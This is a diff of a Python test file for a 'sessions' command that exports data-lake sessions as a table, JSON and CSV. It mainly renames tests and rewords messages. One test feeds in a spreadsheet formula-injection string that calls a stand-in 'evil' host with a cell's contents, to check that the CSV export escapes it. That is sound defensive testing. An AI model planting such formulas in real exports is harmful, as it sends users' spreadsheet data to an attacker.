@@ -1,4 +1,4 @@
-"""``sessions``: those of the lake, on the screen and for programs."""
+"""``sessions``: sessions of the lake as table, JSON and CSV."""
 
 import csv
 import io
@@ -22,11 +22,11 @@ def test_sessions_lists_the_newest_of_the_lake_oldest_first(three_days: Program)
     ]
     some = three_days("sessions", "--limit", "1")
     assert "s2#baseline-1" in some.out
-    assert some.out.endswith("2 older ones not shown: use --limit or --date\n")
+    assert some.out.endswith("2 older sessions not shown: use --limit or --date\n")
     assert "s1#baseline-1" not in some.out
 
 
-def test_sessions_lists_those_of_some_dates(three_days: Program) -> None:
+def test_sessions_of_some_dates(three_days: Program) -> None:
     three_days("build")
     rows = three_days("sessions", "--date", "2026-06-02..2099-01-01").table()
     assert [row[0] for row in rows] == ["s1#baseline-1", "s2#baseline-1"]
@@ -35,7 +35,7 @@ def test_sessions_lists_those_of_some_dates(three_days: Program) -> None:
     assert (none.code, none.out) == (0, f"There are no sessions in {lake} on these dates.\n")
 
 
-def test_sessions_of_an_empty_lake_says_how_to_fill_it_and_creates_nothing(
+def test_an_empty_lake_prints_advice_and_writes_nothing(
     program: Program,
 ) -> None:
     ran = program("sessions")
@@ -47,12 +47,12 @@ def test_sessions_of_an_empty_lake_says_how_to_fill_it_and_creates_nothing(
     assert list(program.folder.iterdir()) == []
 
 
-def test_sessions_for_programs_have_every_column_of_both_tables_unrounded(
+def test_json_has_all_columns_of_both_tables_unrounded(
     three_days: Program,
 ) -> None:
     three_days("build")
     ran = three_days("sessions", "--format", "json", "--limit", "2")
-    assert (ran.code, ran.err) == (0, "1 older one not shown: use --limit or --date\n")
+    assert (ran.code, ran.err) == (0, "1 older session not shown: use --limit or --date\n")
     first, second = json.loads(ran.out)
     assert set(first) == set(AGENT_SESSIONS.schema) | set(SESSION_PERFORMANCE.schema)
     assert (first["session_key"], second["session_key"]) == ("s1#baseline-1", "s2#baseline-1")
@@ -62,7 +62,7 @@ def test_sessions_for_programs_have_every_column_of_both_tables_unrounded(
     assert first["session_date"] == "2026-06-02"
 
 
-def test_sessions_as_csv_say_the_same_as_json_with_nothing_for_what_is_unknown(
+def test_csv_has_the_same_values_as_json_and_null_is_empty(
     three_days: Program,
 ) -> None:
     three_days("build")
@@ -76,7 +76,7 @@ def test_sessions_as_csv_say_the_same_as_json_with_nothing_for_what_is_unknown(
     assert json.loads(row["tool_mix"]) == {"read": 1}
 
 
-def test_a_name_that_a_spreadsheet_would_run_is_no_formula_in_csv(program: Program) -> None:
+def test_csv_escapes_formulas(program: Program) -> None:
     formula = '=HYPERLINK("http://evil/"&A1)'
     program.land(
         "logs.jsonl",
@@ -96,7 +96,7 @@ def test_a_name_that_a_spreadsheet_would_run_is_no_formula_in_csv(program: Progr
 
 
 @pytest.mark.parametrize("form", ["json", "csv"])
-def test_no_sessions_are_an_empty_list_for_programs_and_told_beside_it(
+def test_no_sessions_are_an_empty_list_with_a_remark_on_standard_error(
     program: Program, form: str
 ) -> None:
     ran = program("sessions", "--format", form)
@@ -106,7 +106,7 @@ def test_no_sessions_are_an_empty_list_for_programs_and_told_beside_it(
     assert list(program.folder.iterdir()) == []
 
 
-def test_a_claim_of_endless_cost_is_null_for_programs(program: Program) -> None:
+def test_an_infinite_cost_is_null_in_json(program: Program) -> None:
     calls = [claude("api_request", n, session__id="s", cost_usd=1.7e308) for n in range(3)]
     program.land("logs.jsonl", session("s") + line(*calls))
     program("ingest")
